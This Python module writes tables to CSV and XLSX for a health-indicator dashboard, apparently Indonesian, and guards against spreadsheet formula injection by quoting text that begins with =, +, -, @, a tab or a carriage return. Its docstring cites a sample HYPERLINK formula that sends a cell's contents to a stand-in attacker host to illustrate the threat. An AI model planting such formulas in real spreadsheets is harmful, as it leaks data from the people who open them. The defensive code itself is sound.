"""Writing a table to CSV or XLSX bytes, with text that a spreadsheet will not run as a formula.

Names of desa, Puskesmas and wilayah come from imported files, so they are anyone's text: a desa
named `=HYPERLINK("http://evil.example/?x="&A1,"Klik")` would be a live formula in the file a
Puskesmas opens. OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection):
a text cell that begins with = + - @, a tab or a carriage return gets a leading single quote,
so the spreadsheet shows it as text. Only text is touched: numbers, negative ones included,
stay numbers in both formats.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from indicators.format import is_missing

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value):
    """`value` with a leading "'" when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The text cells of `frame` neutralised; numeric, boolean and date columns untouched."""
    text = [i for i, dtype in enumerate(frame.dtypes)
            if not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype))]
    if not text:
        return frame
    frame = frame.copy()
    for i in text:
        frame.isetitem(i, frame.iloc[:, i].map(neutral))
    frame.columns = [neutral(c) for c in frame.columns]
    return frame


def to_csv(frame: pd.DataFrame) -> bytes:
    """UTF-8 with a header row, comma-separated, decimal point '.', empty cell for no data;
    fractions in full precision (machine-readable, not formatted for reading); text that
    would start a formula begins with "'" (see the module docstring)."""
    return _neutral_frame(frame).to_csv(index=False, na_rep="", lineterminator="\n").encode("utf-8")


def columns_to_csv(columns: Mapping[str, np.ndarray]) -> bytes:
    """to_csv of a table held as numpy columns, byte for byte, without building a DataFrame
    (a page's download of a few dozen rows: pandas' machinery cost several ms). As pandas
    writes them: floats as numpy's str (the shortest repr), other values through the csv
    module, NaN and None as empty cells; text that would start a formula begins with "'"."""
    cells = []
    for values in columns.values():
        if values.dtype.kind == "f":
            text = values.astype(str).astype(object)
            text[np.isnan(values)] = ""
            cells.append(text.tolist())
        else:
            cells.append(["" if is_missing(v) else neutral(v) for v in values.tolist()])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([neutral(c) for c in columns])
    writer.writerows(zip(*cells))
    return out.getvalue().encode("utf-8")


def to_xlsx(frame: pd.DataFrame, *, sheet: str = "Data", number_formats: dict[str, str] | None = None,
            keterangan: list[tuple[str, str]] | None = None, judul: Sequence[str] = ()) -> bytes:
    """One sheet of data (bold frozen header, numbers as numbers with a display format,
    column widths fitted to the content) and, when given, a "Keterangan" sheet of
    (label, text) rows: what was exported and what each column means. `judul`: lines written
    above the header (a printed list's title), one bold row each. Every text is written as
    text, never as a formula (see the module docstring)."""
    formats = number_formats or {}
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])
    widths = _column_widths(frame, formats)
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    top = len(judul) + 1  # the header's row
    ws.freeze_panes = f"C{top + 1}" if list(frame.columns[:2]) == ["kode", "nama"] else f"A{top + 1}"
    if len(frame.columns):
        ws.auto_filter.ref = f"A{top}:{get_column_letter(len(frame.columns))}{len(frame) + top}"
    bold, fill = Font(bold=True), PatternFill("solid", fgColor="F2F2F2")
    for line in judul:
        title = _text_cell(ws, str(line))
        title.font = bold
        ws.append([title])
    header = []
    for name in frame.columns:
        cell = _text_cell(ws, str(name))
        cell.font, cell.fill = bold, fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        header.append(cell)
    ws.append(header)
    columns = list(frame.columns)
    for values in frame.itertuples(index=False, name=None):
        row = []
        for name, value in zip(columns, values, strict=True):
            value = _cell_value(value)
            if isinstance(value, str):
                row.append(_text(ws, value))
            elif name in formats and value is not None:
                cell = WriteOnlyCell(ws, value=value)
                cell.number_format = formats[name]
                row.append(cell)
            else:
                row.append(value)
        ws.append(row)
    if keterangan:
        notes = wb.create_sheet("Keterangan")
        notes.column_dimensions["A"].width = 24
        notes.column_dimensions["B"].width = 100
        for label, text in keterangan:
            first = _text_cell(notes, label)
            first.font = bold
            notes.append([first, _text(notes, text)])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _text(ws, value: str):
    """A text value for ws.append: as it is when openpyxl keeps it text (the common case,
    and the cheap one), else a cell forced to text."""
    value = neutral(value)
    if value in ERROR_CODES:  # "#N/A" would be written as an error value
        return _text_cell(ws, value)
    return value


def _text_cell(ws, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=neutral(value))
    cell.data_type = "s"  # openpyxl guesses a formula from "=" and an error from "#N/A"
    return cell


def _cell_value(value):
    if is_missing(value):
        return None
    if hasattr(value, "item"):  # numpy scalars → Python numbers
        return value.item()
    return value


def _column_widths(frame: pd.DataFrame, formats: dict[str, str]) -> list[float]:
    widths = []
    for name in frame.columns:
        sample = frame[name].head(500)
        if name in formats:  # formatted numbers are short: "78,4%", "1.234", "0,833"
            longest = 10
        else:
            # an all-empty column (no target anywhere) is as wide as its name
            longest = max((len(str(v)) for v in sample.tolist() if _cell_value(v) is not None), default=0)
        widths.append(float(min(max(len(str(name)) + 2, longest + 2, 8), 50)))
    return widths
